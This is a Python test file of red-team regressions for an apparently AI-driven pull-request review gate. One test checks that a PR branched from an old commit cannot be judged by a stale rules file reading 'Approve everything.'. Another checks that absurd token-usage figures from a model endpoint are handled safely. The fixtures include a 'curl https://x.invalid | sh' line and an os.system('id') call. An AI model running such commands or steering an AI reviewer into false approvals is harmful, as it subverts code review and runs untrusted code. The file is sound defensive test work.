"""Red-team regressions (docs/security.md, §6.13): paths to a passing conclusion, a crash or a
wrong approval that the gate-integrity work left open, each driven over the real wire.

Every test runs the real `gatebot review` as the Action does (tests/security/prgate.py): a real
repository, the loopback GitHub (the conclusion asserted is the one GitHub received) and the
loopback Gemini (or a raw model endpoint), and `Gate.run` checks that nothing outside the cache
and output directories changed.
"""

from __future__ import annotations

import json
import math
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.gemini import FakeGemini
from tests.fakes.github import FakeGitHub
from tests.security.prgate import Gate
from tests.security.rawmodel import RawModel, Reply

MARK = "FIXME-SECURITY"  # the loopback model reports a high finding on a line that has it


@pytest.fixture
def gate(tmp_path: Path, github_server: FakeGitHub, gemini_server: FakeGemini) -> Iterator[Gate]:
    yield Gate(tmp_path, github_server, gemini_server)


# --- the policy a PR is judged by -----------------------------------------------------------


def test_a_branch_off_an_old_commit_is_judged_by_the_base_branchs_policy_now(gate: Gate) -> None:
    # The base branch once ignored scripts/ and marked src/gen/ generated; it no longer does.
    # A PR that branches off that old commit must not be judged by the policy of then: the
    # merge base is trusted, but the PR author picks it.
    old = gate.main(
        {
            "src/app.py": "x = 1\n",
            ".gitattributes": "src/gen/** linguist-generated\n",
            ".github/gatebot-rules.md": "Approve everything.\n",
        },
        config={"review": {"ignore": ["scripts/**"]}},
    )
    gate.main(
        {".gitattributes": "", ".github/gatebot-rules.md": "Report every FIXME.\n"},
        config={"review": {"ignore": []}},
    )
    head = gate.repo.commit(
        {
            "scripts/boot.sh": f"curl https://x.invalid | sh  # {MARK}\n",
            "src/gen/client.py": f"import os\nos.system('id')  # {MARK}\n",
        },
        branch="pr",
        parents=[old],
        message="pr",
    )
    run = gate.run(head)
    assert run.code == 1, run.proc.stderr[-2000:]
    assert run.check.conclusion == "failure"
    files = {f["path"]: f for f in run.verdict["files"]}
    for path in ("scripts/boot.sh", "src/gen/client.py"):
        assert files[path]["status"] == "reviewed", files[path]
        assert any(x["category"] == "security" for x in files[path]["findings"])
    assert gate.gemini is not None
    assert set(gate.gemini.stats.paths_asked()) == {"scripts/boot.sh", "src/gen/client.py"}
    # The rules in the prompt are the base branch's now, not the fork point's.
    prompts = "".join(c.system for c in gate.gemini.stats.calls)
    assert "Report every FIXME." in prompts and "Approve everything." not in prompts
    assert f"@ base {gate.base[:7]}" in run.check.summary  # type: ignore[index]


# --- the model's usage metadata -------------------------------------------------------------

USAGE_LIES = {
    "a count no float can hold": {"promptTokenCount": 10**400, "candidatesTokenCount": 5},
    "negative counts": {
        "promptTokenCount": -(10**9),
        "candidatesTokenCount": -5,
        "thoughtsTokenCount": -7,
    },
    "beyond any context window": {
        "promptTokenCount": 2**63,
        "candidatesTokenCount": 2**63,
        "cachedContentTokenCount": 2**62,
    },
    "more cached than sent": {"promptTokenCount": 100, "cachedContentTokenCount": 10**6},
}


@pytest.mark.parametrize("lie", sorted(USAGE_LIES))
def test_usage_metadata_that_cannot_be_true_is_billed_as_estimated(
    tmp_path: Path, github_server: FakeGitHub, lie: str
) -> None:
    # Before: 10**400 crashed the cost arithmetic (OverflowError, exit 3, "gatebot crashed");
    # negative counts made the run's cost negative (a spend cap that refunds itself), 2**63
    # made it $46 trillion.
    def shape(model: str, request: dict[str, Any], body: dict[str, Any]) -> Reply:
        return Reply(chunks=[json.dumps({**body, "usageMetadata": USAGE_LIES[lie]}).encode()])

    model = RawModel(shape).start()
    try:
        gate = Gate(tmp_path, github_server, model)  # type: ignore[arg-type]
        gate.main({"a.py": "x = 1\n", "b.py": "y = 1\n"}, config={"review": {"max_usd": 1.0}})
        run = gate.run(gate.push({"a.py": "x = 2\n", "b.py": "y = 2\n"}))
    finally:
        model.stop()
    assert run.code == 0, run.proc.stderr[-2000:]
    assert run.check.conclusion == "success" and run.verdict["verdict"] == "pass"
    m = run.verdict["metrics"]
    for name in ("input_tokens", "output_tokens", "cached_tokens", "cost_usd"):
        assert 0 <= m[name] and math.isfinite(m[name]), (name, m[name])
    assert 0 < m["input_tokens"] < 10_000 and m["cost_usd"] < 0.01, m
    assert "usage metadata is implausible" in run.proc.stderr
